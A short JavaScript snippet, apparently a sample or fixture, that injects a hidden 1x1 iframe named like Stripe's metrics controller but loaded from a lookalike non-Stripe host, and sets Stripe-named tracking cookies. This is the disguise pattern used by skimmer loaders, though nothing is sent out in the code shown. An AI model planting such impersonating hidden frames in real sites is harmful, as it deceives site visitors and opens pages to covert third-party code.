(function () {
  var f = document.createElement("iframe"); f.name = "__privateStripeMetricsController1"; f.src = "https://m.strimmanat-md10.test/inner.html"; f.setAttribute("aria-hidden", "true");
  f.style.cssText = "position:absolute;border:0;width:1px;height:1px;left:0;top:0;visibility:hidden"; document.body.appendChild(f);
  var id = Math.random().toString(16).slice(2);
  document.cookie = "__stripe_mid=" + id + "; path=/; max-age=31536000; secure; samesite=none";
  document.cookie = "__stripe_sid=" + id + "; path=/; max-age=1800; secure; samesite=none";
})();
